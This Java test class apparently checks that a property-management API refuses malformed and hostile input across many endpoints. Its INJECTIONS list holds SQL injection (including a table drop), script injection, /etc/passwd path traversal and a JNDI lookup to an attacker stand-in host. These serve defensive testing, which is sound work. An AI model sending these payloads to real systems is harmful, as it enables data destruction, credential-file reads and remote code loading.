package org.estatehub.hardening;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Stream;

import jakarta.inject.Inject;

import org.estatehub.testing.Api;
import org.estatehub.testing.AssetFixtures;
import org.estatehub.testing.BoundaryFixtures;
import org.estatehub.testing.ProjectFixtures;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.agroal.api.AgroalDataSource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;

/**
 * Bad input for every operation that takes a body or parameters: malformed JSON, wrong types, missing
 * required fields, over-long strings, unknown enum values, and SQL / script / path-traversal strings
 * in every text field, query parameter and path parameter. The answer is always a 4xx
 * application/problem+json (or, for strings that are merely unusual data, a 2xx that stores them
 * verbatim), never a 5xx; after every refusal the row counts of every table and the target record are
 * exactly as before.
 */
@QuarkusTest
class BadInputTest {

    static final List<String> INJECTIONS = List.of(
            "x'); drop table asset; --",
            "' or '1'='1",
            "<script>alert('x')</script>",
            "../../../../etc/passwd",
            "..%2F..%2Fetc%2Fpasswd",
            "${jndi:ldap://evil.example/a}");

    static final String[] TABLES = {"partner", "asset", "asset_status_change", "project", "project_partner",
            "project_asset", "project_milestone", "project_stage_change", "brownfield_site", "disposal",
            "disposal_interest", "disposal_homes_delivery", "occupation", "workspace",
            "workspace_zone", "workspace_desk", "workspace_allocation", "desk_booking", "occupation_lease_event",
            "audit_event", "webhook_subscription"};

    static final ObjectMapper JSON = new ObjectMapper();

    @Inject
    AgroalDataSource dataSource;

    /** A JSON operation: who calls it, where (a fresh target each time), a valid body and its enum fields. */
    record Op(String name, String user, String method, Function<String, Target> target,
            Function<String, Map<String, Object>> body, List<String> enumFields) {
    }

    /** Where to send the request, the If-Match to send (or null) and the path to read the record back. */
    record Target(String path, String ifMatch, String readBack) {
    }

    record Case(Op op, String kind, List<Object> field, Object value) {
        @Override
        public String toString() {
            return op.name() + ": " + kind + (field == null ? "" : " " + field) + (value == null ? ""
                    : " = " + abbreviate(String.valueOf(value)));
        }
    }

    /** Each bad-input workspace's first desk, by the token of the case that set it up. */
    static final Map<String, String> WORKSPACE_DESKS = new java.util.concurrent.ConcurrentHashMap<>();

    static final List<Op> OPS = List.of(
            new Op("createPartner", "pmo.admin", "POST", t -> new Target("/partners", null, null),
                    t -> new HashMap<>(Map.of("id", "bi-" + t, "name", "Bad input " + t, "shortName", "BI", "type",
                            "OTHER", "localAuthority", "E07000110", "emailDomains", List.of(t + ".bi.example.gov.uk"))),
                    List.of("type")),
            new Op("updatePartner", "pmo.admin", "PUT", t -> partner(t),
                    t -> new HashMap<>(Map.of("name", "Bad input " + t, "shortName", "BI", "type", "OTHER",
                            "localAuthority", "E07000110", "emailDomains", List.of(t + ".bi.example.gov.uk"))),
                    List.of("type")),
            // Onboarding (#18): the invited email is a fresh Keycloak user's, so an accepted request only adds them.
            new Op("invitePartnerMember", "pmo.admin", "POST", t -> invitation(t),
                    t -> new HashMap<>(Map.of("email", "bi-" + t + "@bi.example.gov.uk")),
                    List.of()),
            new Op("setPartnerIdentityProvider OIDC", "pmo.admin", "PUT", t -> identityProvider(t),
                    t -> new HashMap<>(Map.of("type", "OIDC", "issuer", org.estatehub.testing.KeycloakRealmAdmin.BASE + "/realms/master",
                            "clientId", "estatehub-broker", "clientSecret", "s3cret-" + t, "emailDomains", List.of(t + ".bi.example.gov.uk"))),
                    List.of("type")),
            new Op("setPartnerIdentityProvider SAML", "pmo.admin", "PUT", t -> identityProvider(t),
                    t -> new HashMap<>(Map.of("type", "SAML", "metadataUrl", org.estatehub.testing.KeycloakRealmAdmin.BASE
                            + "/realms/master/protocol/saml/descriptor", "emailDomains", List.of(t + ".bi.example.gov.uk"))),
                    List.of("type")),
            new Op("createAsset", "maidstone.editor", "POST", t -> new Target("/assets", null, null),
                    t -> AssetFixtures.asset("Bad input " + t, 51.27, 0.52),
                    List.of("assetType", "tenure", "status", "visibility")),
            new Op("updateAsset", "maidstone.editor", "PUT", t -> asset(t, ""),
                    t -> AssetFixtures.asset("Bad input " + t, 51.27, 0.52),
                    List.of("assetType", "tenure", "status", "visibility")),
            new Op("disposeAsset", "maidstone.editor", "POST", t -> asset(t, "/disposal"),
                    t -> new HashMap<>(Map.of("disposedOn", LocalDate.now().minusDays(1).toString(), "reason",
                            "Sold " + t)),
                    List.of()),
            new Op("createProject", "maidstone.editor", "POST", t -> new Target("/projects", null, null),
                    t -> ProjectFixtures.with(ProjectFixtures.project("Bad input " + t, "kcc"), "outcomes",
                            Map.of("homes", Map.of("target", 10), "otherBenefits", List.of("Fewer offices"))),
                    List.of("type", "programmes[0]", "rag.status")),
            new Op("updateProject", "maidstone.editor", "PUT", t -> project(t, ""),
                    t -> ProjectFixtures.project("Bad input " + t, "kcc"),
                    List.of("type", "programmes[0]", "rag.status")),
            new Op("changeProjectStage", "maidstone.editor", "POST", t -> project(t, "/stage-changes"),
                    t -> new HashMap<>(Map.of("toStage", "PIPELINE", "note", "Moving on " + t)),
                    List.of("toStage")),
            new Op("addMilestone", "maidstone.editor", "POST", t -> project(t, "/milestones"),
                    t -> new HashMap<>(Map.of("name", "Survey " + t, "dueOn", "2031-01-31", "ownerPartnerId", "kcc")),
                    List.of()),
            new Op("updateMilestone", "maidstone.editor", "PUT", t -> milestone(t),
                    t -> new HashMap<>(Map.of("name", "Survey " + t, "dueOn", "2031-01-31", "ownerPartnerId", "kcc")),
                    List.of()),
            new Op("updateBrownfieldSiteLinks", "maidstone.editor", "PUT", t -> brownfieldSite(t),
                    t -> new HashMap<>(Map.of("projectId", demoProject("Tonbridge Road Car Park"))),
                    List.of()),
            // A boundary (#16) in an asset's body: every member and position of the GeoJSON gets the cases too.
            new Op("createAsset+boundary", "maidstone.editor", "POST", t -> new Target("/assets", null, null),
                    t -> AssetFixtures.with(AssetFixtures.asset("Bad input " + t, 51.27, 0.52), "boundary",
                            BoundaryFixtures.hectare()),
                    List.of("boundary.type")),
            new Op("setBrownfieldSiteBoundary", "maidstone.editor", "PUT", t -> brownfieldBoundary(t),
                    t -> new HashMap<>(BoundaryFixtures.hectare()),
                    List.of("type")),
            // Disposals (#17): the declaration's asset is the target's, so the body looks it up by the token.
            new Op("declareDisposal", "maidstone.editor", "POST", t -> surplusAsset(t),
                    t -> disposalDeclaration(BadInputTest.SURPLUS_ASSETS.getOrDefault(t, "7b0c2b7e-5d1a-4c8e-9a40-2b8f6f1d7c11")),
                    List.of("offerTypes[0]")),
            new Op("registerDisposalInterest", "dover.editor", "POST", t -> disposal(t, "/interests", false),
                    t -> disposalInterest(),
                    List.of("intendedUse")),
            new Op("agreeDisposalTransfer", "maidstone.editor", "POST", t -> disposal(t, "/transfer-agreement", true),
                    t -> new HashMap<>(Map.of("interestId", BadInputTest.DOVER_INTERESTS.getOrDefault(t,
                            "7b0c2b7e-5d1a-4c8e-9a40-2b8f6f1d7c11"))),
                    List.of()),
            new Op("withdrawDisposal", "maidstone.editor", "POST", t -> disposal(t, "/withdrawal", false),
                    t -> new HashMap<>(Map.of("reason", "Retained " + t)),
                    List.of()),
            new Op("completeDisposal", "maidstone.editor", "POST", t -> agreedDisposal(t),
                    t -> new HashMap<>(Map.of("completedOn", LocalDate.now(org.estatehub.common.time.PartnershipCalendar.ZONE)
                            .toString(), "capitalReceipt", Map.of("amount", "125000.50", "currency", "GBP"),
                            "hectaresReleased", 1.5, "housingCapacity", 12)),
                    List.of("capitalReceipt.currency")),
            // A year's homes on a sale's released land, recorded by the former owner: a first record, no If-Match.
            new Op("recordHomesDelivered", "maidstone.editor", "PUT", t -> homesDelivered(t),
                    t -> new HashMap<>(Map.of("homesPermitted", 12, "homesStarted", 6, "homesCompleted", 1)),
                    List.of()),
            new Op("createOccupation", "maidstone.editor", "POST", t -> asset(t, "/occupations"),
                    t -> occupationBody(t), List.of("basis", "yearlyRent.currency")),
            new Op("updateOccupation", "maidstone.editor", "PUT", t -> occupation(t),
                    t -> occupationBody(t), List.of("basis", "yearlyServiceCharge.currency")),
            new Op("createWorkspace", "maidstone.editor", "POST", t -> asset(t, "/workspaces"),
                    t -> new HashMap<>(Map.of("name", "Hub " + t, "zones", List.of(Map.of("name", "Open " + t, "desks", 3)))),
                    List.of()),
            new Op("setWorkspaceAllocation", "maidstone.editor", "PUT", t -> workspace(t, "/allocations/dover"),
                    t -> new HashMap<>(Map.of("desks", 2)), List.of()),
            new Op("bookDesk", "maidstone.editor", "POST", t -> workspace(t, "/bookings"),
                    t -> new HashMap<>(Map.of("deskId", WORKSPACE_DESKS.getOrDefault(t,
                            "00000000-0000-0000-0000-000000000000"), "on", LocalDate.now().plusDays(9).toString(), "slot", "PM")),
                    List.of("slot")),
            new Op("cancelDeskBooking", "maidstone.editor", "POST", t -> booking(t),
                    t -> new HashMap<>(Map.of("reason", "Not needed " + t)), List.of()),
            // Webhooks (#20): subscriptions to a closed local port, of an event type the test profile never writes.
            new Op("createWebhookSubscription", "maidstone.editor", "POST", t -> new Target("/webhook-subscriptions", null, null),
                    t -> webhookBody(t), List.of("eventTypes[0]")),
            new Op("updateWebhookSubscription", "maidstone.editor", "PUT", t -> webhookSubscription(t, ""),
                    t -> webhookBody(t), List.of("eventTypes[0]")),
            new Op("changeWebhookSubscriptionStatus", "maidstone.editor", "POST", t -> webhookSubscription(t, "/status-changes"),
                    t -> new HashMap<>(Map.of("toStatus", "PAUSED")), List.of("toStatus")),
            new Op("rotateWebhookSubscriptionSecret", "maidstone.editor", "POST", t -> webhookSubscription(t, "/secret-rotations"),
                    t -> new HashMap<>(Map.of("overlapMinutes", 30)), List.of()),
            new Op("replayWebhookSubscription", "maidstone.editor", "POST", t -> webhookSubscription(t, "/replays"),
                    t -> new HashMap<>(Map.of("after", feedCursor())), List.of()));

    static Map<String, Object> webhookBody(String t) {
        return new HashMap<>(Map.of("url", "http://localhost:9/bad-input/" + t, "eventTypes",
                List.of("OCCUPATION_BREAK_APPROACHING"), "description", "Bad input " + t));
    }

    /** A fresh subscription of Maidstone's; `suffix` names the operation's path under it. */
    static Target webhookSubscription(String t, String suffix) {
        String id = Api.as("maidstone.editor").body(webhookBody(t)).post("/webhook-subscriptions").then().statusCode(201)
                .extract().path("id");
        return new Target("/webhook-subscriptions/" + id + suffix, "\"0\"", "/webhook-subscriptions/" + id);
    }

    /**
     * A cursor of the change feed as the service hands them out (base64url of `e1:0:0`, the start), for
     * replays: made here because the cases are listed before the service is up.
     */
    static String feedCursor() {
        return java.util.Base64.getUrlEncoder().withoutPadding()
                .encodeToString("e1:0:0".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
    }


    /** The asset each declaration case's target registered, by the case's token. */
    static final Map<String, String> SURPLUS_ASSETS = new java.util.concurrent.ConcurrentHashMap<>();

    /** Dover's interest in each agreement case's disposal, by the case's token. */
    static final Map<String, String> DOVER_INTERESTS = new java.util.concurrent.ConcurrentHashMap<>();

    static Target surplusAsset(String t) {
        String id = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input surplus " + t, 51.27, 0.52));
        SURPLUS_ASSETS.put(t, id);
        return new Target("/disposals", null, "/assets/" + id);
    }

    static Map<String, Object> disposalDeclaration(String assetId) {
        return new HashMap<>(Map.of("assetId", assetId, "reason", "Surplus", "availableFrom", "2027-04-01",
                "offerTypes", List.of("FREEHOLD_SALE", "LICENCE"), "guidePrice", Map.of("amount", "850000.00",
                        "currency", "GBP"), "siteAreaHectares", 1.25, "knownConstraints", "Flood zone 2",
                "contact", Map.of("name", "Estates", "email", "estates@maidstone.gov.uk", "phone", "01622 602000")));
    }

    static Map<String, Object> disposalInterest() {
        return new HashMap<>(Map.of("intendedUse", "HOUSING", "proposal", "Key-worker homes", "timing", "2028",
                "fundingSource", "BLRF", "contact", Map.of("name", "Dover estates", "email", "estates@dover.gov.uk")));
    }

    /** A fresh OFFERED disposal of Maidstone's, with Dover's interest in it when `withInterest`. */
    static Target disposal(String t, String suffix, boolean withInterest) {
        String asset = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input disposal " + t, 51.27, 0.52));
        String id = Api.as("maidstone.editor").body(disposalDeclaration(asset)).post("/disposals").then().statusCode(201)
                .extract().path("id");
        if (withInterest) {
            DOVER_INTERESTS.put(t, Api.as("dover.editor").body(disposalInterest()).post("/disposals/" + id + "/interests")
                    .then().statusCode(201).extract().path("id"));
        }
        return new Target("/disposals/" + id + suffix, suffix.equals("/interests") ? null : "\"0\"", "/disposals/" + id);
    }

    /** A disposal with a transfer to Dover agreed, ready to complete. */
    static Target agreedDisposal(String t) {
        Target offered = disposal(t, "", true);
        Api.as("maidstone.editor").header("If-Match", "\"0\"").body(Map.of("interestId", DOVER_INTERESTS.get(t)))
                .post(offered.path() + "/transfer-agreement").then().statusCode(200);
        return new Target(offered.path() + "/completion", "\"1\"", offered.path());
    }

    static Stream<Case> cases() {
        List<Case> cases = new ArrayList<>();
        for (Op op : OPS) {
            Map<String, Object> body = op.body().apply("sample");
            cases.add(new Case(op, "malformed JSON", null, "{\"name\": "));
            cases.add(new Case(op, "JSON array instead of an object", null, "[]"));
            cases.add(new Case(op, "every field missing", null, "{}"));
            for (List<Object> path : leaves(body, new ArrayList<>())) {
                Object value = get(body, path);
                cases.add(new Case(op, "wrong type", path, wrongType(value)));
                if (isInteger(op.name(), path)) {
                    // Jackson would truncate it to 1 unless told not to (ContractJson).
                    cases.add(new Case(op, "fraction for an integer", path, 1.5));
                }
                if (value instanceof String) {
                    cases.add(new Case(op, "over-long string", path, "x".repeat(100_000)));
                    for (String injection : INJECTIONS) {
                        cases.add(new Case(op, "injection", path, injection));
                    }
                }
            }
            for (Object top : body.keySet()) {
                cases.add(new Case(op, "required field missing or optional field absent", List.of(top), null));
            }
            for (String field : op.enumFields()) {
                cases.add(new Case(op, "unknown enum value", parse(field), "PIRATES"));
            }
            cases.add(new Case(op, "unknown property", List.of("nmae"), "typo"));
        }
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void jsonBodies(Case c) throws Exception {
        String t = AssetFixtures.token();
        Target target = c.op().target().apply(t);
        Map<String, Object> valid = c.op().body().apply(t);
        String body;
        switch (c.kind()) {
            case "malformed JSON", "JSON array instead of an object", "every field missing" -> body = (String) c.value();
            case "required field missing or optional field absent" -> {
                Map<String, Object> copy = new LinkedHashMap<>(valid);
                copy.remove(c.field().get(0));
                body = JSON.writeValueAsString(copy);
            }
            case "unknown property" -> {
                Map<String, Object> copy = new LinkedHashMap<>(valid);
                copy.put("nmae", "typo");
                body = JSON.writeValueAsString(copy);
            }
            default -> body = JSON.writeValueAsString(set(valid, c.field(), c.value()));
        }

        Map<String, Long> before = counts();
        String recordBefore = target.readBack() == null ? null : Api.as("pmo.admin").get(target.readBack()).asString();
        var spec = Api.badRequestAs(c.op().user()).contentType(ContentType.JSON).accept(ContentType.JSON).body(body);
        if (target.ifMatch() != null) {
            spec = spec.header("If-Match", target.ifMatch());
        }
        Response r = spec.request(c.op().method(), target.path());
        int status = r.statusCode();
        assertTrue(status < 500, c + ": " + status + " " + r.asString());

        // A site's links are both optional: {} is a valid request that removes them.
        boolean mayBeAccepted = c.kind().equals("injection") || c.kind().startsWith("required field missing or optional")
                || c.kind().equals("every field missing") && c.op().name().equals("updateBrownfieldSiteLinks")
                // A cancellation's reason is optional.
                || c.kind().equals("every field missing") && c.op().name().equals("cancelDeskBooking")
                // A rotation's overlap and a replay's cursor are optional (the default; the start of the feed).
                || c.kind().equals("every field missing") && c.op().name().equals("rotateWebhookSubscriptionSecret")
                || c.kind().equals("every field missing") && c.op().name().equals("replayWebhookSubscription");
        if (status < 300 && mayBeAccepted) {
            if (c.kind().equals("injection") && c.field().equals(List.of("clientSecret"))) {
                // A client secret is write-only: stored in Keycloak, never answered.
                assertTrue(!r.asString().contains((String) c.value()), c + ": the secret is answered: " + r.asString());
            } else if (c.kind().equals("injection")) {
                // Accepted strings are data: stored and answered exactly as sent.
                assertTrue(r.asString().contains((String) c.value()), c + ": stored differently: " + r.asString());
            }
            return;
        }
        assertTrue(status >= 400, c + ": accepted (" + status + ") " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), c + ": content type " + r.contentType());
        assertEquals(status, (int) r.path("status"), c + ": problem status");
        if (status == 400) {
            assertTrue(r.asString().contains("\"detail\""), c + ": problem without detail");
        }
        if (c.kind().equals("fraction for an integer")) {
            assertEquals(400, status, c + ": " + r.asString());
            assertTrue(r.jsonPath().getList("errors.field", String.class).contains(dotted(c.field())),
                    c + ": the problem does not name " + dotted(c.field()) + ": " + r.asString());
        }
        assertEquals(before, counts(), c + ": rows were written although the request was refused");
        if (recordBefore != null) {
            assertEquals(recordBefore, Api.as("pmo.admin").get(target.readBack()).asString(),
                    c + ": the record changed although the request was refused");
        }
    }

    /** The fraction cases come from the contract's types: a broken lookup would silently add none. */
    @org.junit.jupiter.api.Test
    void everyIntegerFieldOfTheBodiesGetsAFractionCase() {
        List<String> fractions = cases().filter(c -> c.kind().equals("fraction for an integer"))
                .map(c -> c.op().name() + " " + dotted(c.field())).toList();
        for (String expected : List.of("createAsset sharedWorkspaceDesks", "updateAsset sharedWorkspaceDesks",
                "createProject outcomes.homes.target", "completeDisposal housingCapacity",
                "recordHomesDelivered homesPermitted", "createWorkspace zones[0].desks", "setWorkspaceAllocation desks")) {
            assertTrue(fractions.contains(expected), expected + " has no fraction case: " + fractions);
        }
        assertTrue(fractions.stream().noneMatch(f -> f.endsWith(" hectaresReleased") || f.endsWith(" grossInternalAreaM2")),
                "a decimal field taken for an integer: " + fractions);
    }

    /** The contract, its references resolved, for the request bodies' property types. */
    static final io.swagger.v3.oas.models.OpenAPI SPEC = spec();

    private static io.swagger.v3.oas.models.OpenAPI spec() {
        io.swagger.v3.parser.core.models.ParseOptions options = new io.swagger.v3.parser.core.models.ParseOptions();
        options.setResolve(true);
        options.setResolveFully(true);
        try {
            return new io.swagger.v3.parser.OpenAPIV3Parser().readContents(
                    java.nio.file.Files.readString(org.estatehub.testing.Contract.SPEC), null, options).getOpenAPI();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /**
     * Whether the contract types the property at `path` of operation `opName`'s JSON body (`createAsset+boundary`
     * is createAsset's) as an integer: read from the contract, so a new integer field gets its case unasked.
     */
    @SuppressWarnings("rawtypes")
    static boolean isInteger(String opName, List<Object> path) {
        String operationId = opName.contains("+") ? opName.substring(0, opName.indexOf('+')) : opName;
        io.swagger.v3.oas.models.media.Schema schema = SPEC.getPaths().values().stream()
                .flatMap(item -> item.readOperations().stream())
                .filter(o -> operationId.equals(o.getOperationId()) && o.getRequestBody() != null
                        && o.getRequestBody().getContent().get("application/json") != null)
                .map(o -> o.getRequestBody().getContent().get("application/json").getSchema())
                .findFirst().orElse(null);
        for (Object key : path) {
            if (schema == null) {
                return false;
            }
            schema = key instanceof Integer ? schema.getItems() : property(schema, (String) key);
        }
        return schema != null && "integer".equals(schema.getType());
    }

    @SuppressWarnings({"rawtypes", "unchecked"})
    private static io.swagger.v3.oas.models.media.Schema property(io.swagger.v3.oas.models.media.Schema schema,
            String name) {
        if (schema.getProperties() != null && schema.getProperties().containsKey(name)) {
            return (io.swagger.v3.oas.models.media.Schema) schema.getProperties().get(name);
        }
        if (schema.getAllOf() != null) {
            for (Object part : schema.getAllOf()) {
                io.swagger.v3.oas.models.media.Schema found = property((io.swagger.v3.oas.models.media.Schema) part, name);
                if (found != null) {
                    return found;
                }
            }
        }
        return null;
    }

    /** `[zones, 0, desks]` as the problem names it: `zones[0].desks`. */
    static String dotted(List<Object> path) {
        StringBuilder sb = new StringBuilder();
        for (Object key : path) {
            if (key instanceof Integer i) {
                sb.append('[').append(i).append(']');
            } else {
                sb.append(sb.length() == 0 ? "" : ".").append(key);
            }
        }
        return sb.toString();
    }

    /**
     * Bad local authorities in every body that names one (partners, projects, assets): malformed codes, a
     * well-formed code no authority has, former authorities (Aylesbury Vale 2020, Allerdale 2023: refused
     * for a new value), a number, 1.x's District enum name. Always 400 naming `localAuthority`, nothing
     * written, the record as it was.
     */
    static Stream<org.junit.jupiter.params.provider.Arguments> authorityValues() {
        List<org.junit.jupiter.params.provider.Arguments> cases = new ArrayList<>();
        for (String opName : List.of("createPartner", "updatePartner", "createProject", "updateProject",
                "createAsset", "updateAsset")) {
            Op op = OPS.stream().filter(o -> o.name().equals(opName)).findFirst().orElseThrow();
            for (Object value : List.of("e07000110", "E0700011", "E070001100", "X07000110", "E07 00110",
                    "E0711", "E07999999", "S99999999", "E07000004", "E07000026", 7000110, "MAIDSTONE")) {
                cases.add(org.junit.jupiter.params.provider.Arguments.of(op.name() + " localAuthority = " + value,
                        op, value));
            }
        }
        return cases.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("authorityValues")
    void badLocalAuthorities(String name, Op op, Object value) throws Exception {
        String t = AssetFixtures.token();
        Target target = op.target().apply(t);
        Map<String, Object> body = new LinkedHashMap<>(op.body().apply(t));
        body.put("localAuthority", value);
        Map<String, Long> before = counts();
        String recordBefore = target.readBack() == null ? null : Api.as("pmo.admin").get(target.readBack()).asString();
        var spec = Api.badRequestAs(op.user()).contentType(ContentType.JSON).accept(ContentType.JSON)
                .body(JSON.writeValueAsString(body));
        if (target.ifMatch() != null) {
            spec = spec.header("If-Match", target.ifMatch());
        }
        Response r = spec.request(op.method(), target.path());
        assertEquals(400, r.statusCode(), name + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), name + ": " + r.contentType());
        assertTrue(r.jsonPath().getList("errors.field", String.class).contains("localAuthority"),
                name + ": the problem does not name localAuthority: " + r.asString());
        assertEquals(before, counts(), name + ": rows were written although the request was refused");
        if (recordBefore != null) {
            assertEquals(recordBefore, Api.as("pmo.admin").get(target.readBack()).asString(),
                    name + ": the record changed although the request was refused");
        }
    }

    /** An occupation's project that is no project, or no UUID: 400 naming projectId, nothing saved. */
    @ParameterizedTest(name = "projectId {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {"00000000-0000-0000-0000-000000000000", "not-a-uuid"})
    void badOccupationProject(String projectId) throws Exception {
        String t = AssetFixtures.token();
        Target target = asset(t, "/occupations");
        Map<String, Object> body = new HashMap<>(occupationBody(t));
        body.put("projectId", projectId);
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("maidstone.editor").contentType("application/json")
                .body(JSON.writeValueAsString(body)).post(target.path());
        assertEquals(400, r.statusCode(), projectId + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), r.contentType());
        assertTrue(r.jsonPath().getList("errors.field", String.class).contains("projectId"), r.asString());
        assertEquals(before, counts(), projectId + ": rows were written although the request was refused");
    }

    /** The lease-event lists' parameters out of range or malformed: 400 naming the parameter, nothing written. */
    @ParameterizedTest(name = "GET {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {
            "/occupations/lease-events?withinMonths=0", "/occupations/lease-events?withinMonths=121",
            "/occupations/lease-events?withinMonths=-3", "/occupations/lease-events?withinMonths=1.5",
            "/occupations/lease-events?withinMonths=soon", "/occupations/lease-events?kind=RENT_REVIEW",
            "/occupations/lease-events?limit=501", "/occupations/lease-events?offset=-1",
            "/occupations/under-used?belowPercent=-0.01", "/occupations/under-used?belowPercent=100.01",
            "/occupations/under-used?belowPercent=half", "/occupations/under-used?belowPercent=1e999",
            "/occupations/under-used?limit=0", "/occupations/lease-events?occupierPartnerId=no-such-partner",
            "/occupations/under-used?occupierPartnerId=no-such-partner"})
    void badLeaseEventParameters(String pathAndQuery) {
        String parameter = pathAndQuery.substring(pathAndQuery.indexOf('?') + 1, pathAndQuery.indexOf('='));
        Map<String, Long> before = counts();
        Response r = Api.badRequestAs("pmo.admin").get(pathAndQuery);
        assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
        List<String> fields = r.jsonPath().getList("errors.field", String.class);
        assertTrue(!fields.isEmpty() && fields.stream().allMatch(parameter::equals), pathAndQuery + ": " + fields);
        assertEquals(before, counts(), pathAndQuery);
    }

    /** Malformed and unknown codes in every local authority query parameter: 400 naming the parameter. */
    @ParameterizedTest(name = "GET {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {
            "/projects?localAuthority=e07000110", "/projects?localAuthority=E07999999",
            "/assets?localAuthority=E07999999", "/assets/co-location?localAuthority=e07000110",
            "/projects/outcomes?localAuthority=E0700011", "/projects/outcomes?localAuthority=S99999999",
            "/dashboards/assets?localAuthority=E07999999", "/dashboards/assets?localAuthority=e07000110",
            "/dashboards/pipeline?localAuthority=S99999999", "/dashboards/pipeline?localAuthority=E0700011",
            "/dashboards/land-release?localAuthority=S99999999", "/dashboards/land-release?localAuthority=e07000110",
            "/dashboards/occupations?localAuthority=S99999999", "/dashboards/occupations?localAuthority=e07000110",
            "/data-quality?localAuthority=E07999999", "/data-quality?localAuthority=e07000110",
            "/local-authorities?county=E07999999", "/local-authorities?county=E07000110",
            "/local-authorities?county=kent", "/local-authorities?type=PIRATES", "/local-authorities?current=maybe",
            "/local-authorities?inPartnershipArea=1", "/local-authorities?current=true&current=false"})
    void badLocalAuthorityParameters(String pathAndQuery) {
        String parameter = pathAndQuery.substring(pathAndQuery.indexOf('?') + 1, pathAndQuery.indexOf('='));
        Response r = Api.badRequestAs("maidstone.editor").get(pathAndQuery);
        assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
        // Every error names the parameter (a value may break several of its rules: pattern and length).
        List<String> fields = r.jsonPath().getList("errors.field", String.class);
        assertTrue(!fields.isEmpty() && fields.stream().allMatch(parameter::equals), pathAndQuery + ": " + fields);
    }

    /**
     * GET /assets/co-location's own parameters: a box with its corners swapped or short of a corner, a page
     * larger than 100 clusters, a negative offset, a distance or partner count out of range: 400 naming
     * the parameter, never a 500 or an empty answer.
     */
    @ParameterizedTest(name = "GET {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {
            "/assets/co-location?bbox=1,60,0,61", "/assets/co-location?bbox=0.5,51.3,0.6,51.2",
            "/assets/co-location?bbox=1,2,3", "/assets/co-location?bbox=a,b,c,d", "/assets/co-location?limit=101",
            "/assets/co-location?limit=0", "/assets/co-location?offset=-1", "/assets/co-location?distanceM=5001",
            "/assets/co-location?distanceM=9", "/assets/co-location?minPartners=1", "/assets/co-location?minPartners=51"})
    void badCoLocationParameters(String pathAndQuery) {
        String parameter = pathAndQuery.substring(pathAndQuery.indexOf('?') + 1, pathAndQuery.indexOf('='));
        Response r = Api.badRequestAs("maidstone.editor").get(pathAndQuery);
        assertEquals(400, r.statusCode(), pathAndQuery + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
        List<String> fields = r.jsonPath().getList("errors.field", String.class);
        assertTrue(!fields.isEmpty() && fields.stream().allMatch(parameter::equals), pathAndQuery + ": " + fields);
    }

    /**
     * GET /occupations/opportunities's bounds: months, distance, candidates per occupation and page size out of
     * range, a negative offset: 400 naming the parameter (the GeoJSON form too), and nothing written.
     */
    @ParameterizedTest(name = "GET {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {
            "/occupations/opportunities?withinMonths=0", "/occupations/opportunities?withinMonths=61",
            "/occupations/opportunities?withinMonths=1.5", "/occupations/opportunities?distanceM=9",
            "/occupations/opportunities?distanceM=20001", "/occupations/opportunities?distanceM=-1",
            "/occupations/opportunities?candidates=0", "/occupations/opportunities?candidates=21",
            "/occupations/opportunities?limit=0", "/occupations/opportunities?limit=101",
            "/occupations/opportunities?offset=-1", "/occupations/opportunities?offset=x"})
    void badOpportunityParameters(String pathAndQuery) {
        String parameter = pathAndQuery.substring(pathAndQuery.indexOf('?') + 1, pathAndQuery.indexOf('='));
        Map<String, Long> before = counts();
        for (String accept : List.of("application/json", "application/geo+json")) {
            Response r = Api.badRequestAs("police.editor").accept(accept).get(pathAndQuery);
            assertEquals(400, r.statusCode(), pathAndQuery + " " + accept + ": " + r.asString());
            assertTrue(r.contentType().startsWith("application/problem+json"), pathAndQuery);
            List<String> fields = r.jsonPath().getList("errors.field", String.class);
            assertTrue(!fields.isEmpty() && fields.stream().allMatch(parameter::equals), pathAndQuery + ": " + fields);
        }
        assertEquals(before, counts(), pathAndQuery);
    }

    /** An export layout the contract does not name: 400 naming `layout`, never a 500 or the default layout. */
    @ParameterizedTest(name = "GET /assets/export?layout={0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {"LGA", "lga2", "transparency", "e-pims", "csv", "%20lga"})
    void badExportLayout(String layout) {
        Response r = Api.badRequestAs("maidstone.editor").accept("text/csv").urlEncodingEnabled(false)
                .get("/assets/export?layout=" + layout);
        assertEquals(400, r.statusCode(), layout + ": " + r.asString());
        assertTrue(r.contentType().startsWith("application/problem+json"), layout);
        assertEquals(List.of("layout"), r.jsonPath().getList("errors.field", String.class), layout);
    }

    /**
     * GET /data-quality's own parameters: an unknown or malformed partner (checked before who may ask for
     * it, so a partner-editor gets 400, not 403), an unknown scope, a repeated partner, out-of-range or
     * non-numeric bounds: 400 naming the parameter.
     */
    @ParameterizedTest(name = "GET {0}")
    @org.junit.jupiter.params.provider.ValueSource(strings = {
